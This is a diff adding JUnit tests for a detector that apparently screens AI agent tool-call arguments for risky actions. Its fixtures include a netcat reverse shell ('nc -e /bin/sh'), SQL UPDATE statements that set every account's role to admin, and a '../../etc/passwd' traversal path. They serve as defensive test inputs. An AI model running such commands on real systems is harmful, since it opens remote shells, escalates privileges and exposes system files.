@@ -175,6 +175,69 @@ class ActionDetectorTest {
     assertThat(asked.get()).isLessThan(200);
   }
 
+  @ParameterizedTest
+  @ValueSource(
+      strings = {
+        "Update the heading to Results, set the first paragraph in bold and keep the rest.",
+        "update all of my contacts: Set is a word here, and so is table",
+        "Update Anna on the new date; then set up a call with the vendor.",
+      })
+  void words_of_a_statement_in_a_request_are_no_statement(String request) {
+    assertThat(SqlRules.looksLikeStatement(request, Readings.unlimited())).isFalse();
+    assertThat(detect("{\"query\":\"" + request + "\"}")).isEmpty();
+  }
+
+  @ParameterizedTest
+  @ValueSource(
+      strings = {
+        "UPDATE accounts SET role = 'admin'",
+        "update shop.accounts a set a.role='admin'",
+        "UPDATE \\\"accounts\\\" SET role = 1",
+        "UPDATE [accounts] SET role = 1",
+      })
+  void a_change_of_all_rows_is_one(String statement) {
+    assertThat(detect("{\"query\":\"" + statement + "\"}"))
+        .extracting(Finding::rule)
+        .containsExactly("sql-change-all");
+  }
+
+  @ParameterizedTest
+  @ValueSource(strings = {"sql", "command", "list", "findings", "words"})
+  void what_is_beyond_a_bound_is_said_to_be_left_out(String kind) {
+    String text =
+        switch (kind) {
+          case "sql" ->
+              "{\"sql\":\"SELECT * FROM t WHERE a IN (1"
+                  + ",1".repeat(SqlLexer.MOST_TOKENS)
+                  + ")\"}";
+          case "command" -> "{\"command\":\"" + "a;".repeat(250_000) + "\"}";
+          case "list" -> "{\"x\":[" + "\"ab\",".repeat(6000) + "\"\"]}";
+          case "findings" -> "[" + "{\"path\":\"../../etc/passwd\"},".repeat(60) + "{}]";
+          default -> "{\"command\":\"echo " + "a ".repeat(30_000) + "\"}";
+        };
+    InspectionBudget budget = Readings.muchWork();
+    SegmentReading reading =
+        SegmentReading.asItStands(new Segment(Zone.TOOL_CALL, "", ARGUMENTS, text));
+    new ActionDetector().detect(reading, budget, f -> {});
+    assertThat(budget.spent()).isFalse();
+    assertThat(budget.leftOut()).isPositive();
+  }
+
+  @Test
+  void ordinary_arguments_leave_nothing_out() {
+    InspectionBudget budget = Readings.muchWork();
+    String text = "{\"command\":\"ls -la && " + "cat a | grep b; ".repeat(200) + "\"}";
+    SegmentReading reading = Readings.reading(Zone.TOOL_CALL, ARGUMENTS, text);
+    new ActionDetector().detect(reading, budget, f -> {});
+    assertThat(budget.leftOut()).isZero();
+  }
+
+  @Test
+  void a_command_behind_a_very_long_one_is_read() {
+    String text = "{\"command\":\"echo " + "a ".repeat(30_000) + "; nc -e /bin/sh h 1\"}";
+    assertThat(detect(text)).extracting(Finding::rule).containsExactly("shell-reverse");
+  }
+
   private static List<Finding> detect(String arguments) {
     return Readings.detect(new ActionDetector(), Zone.TOOL_CALL, ARGUMENTS, arguments);
   }
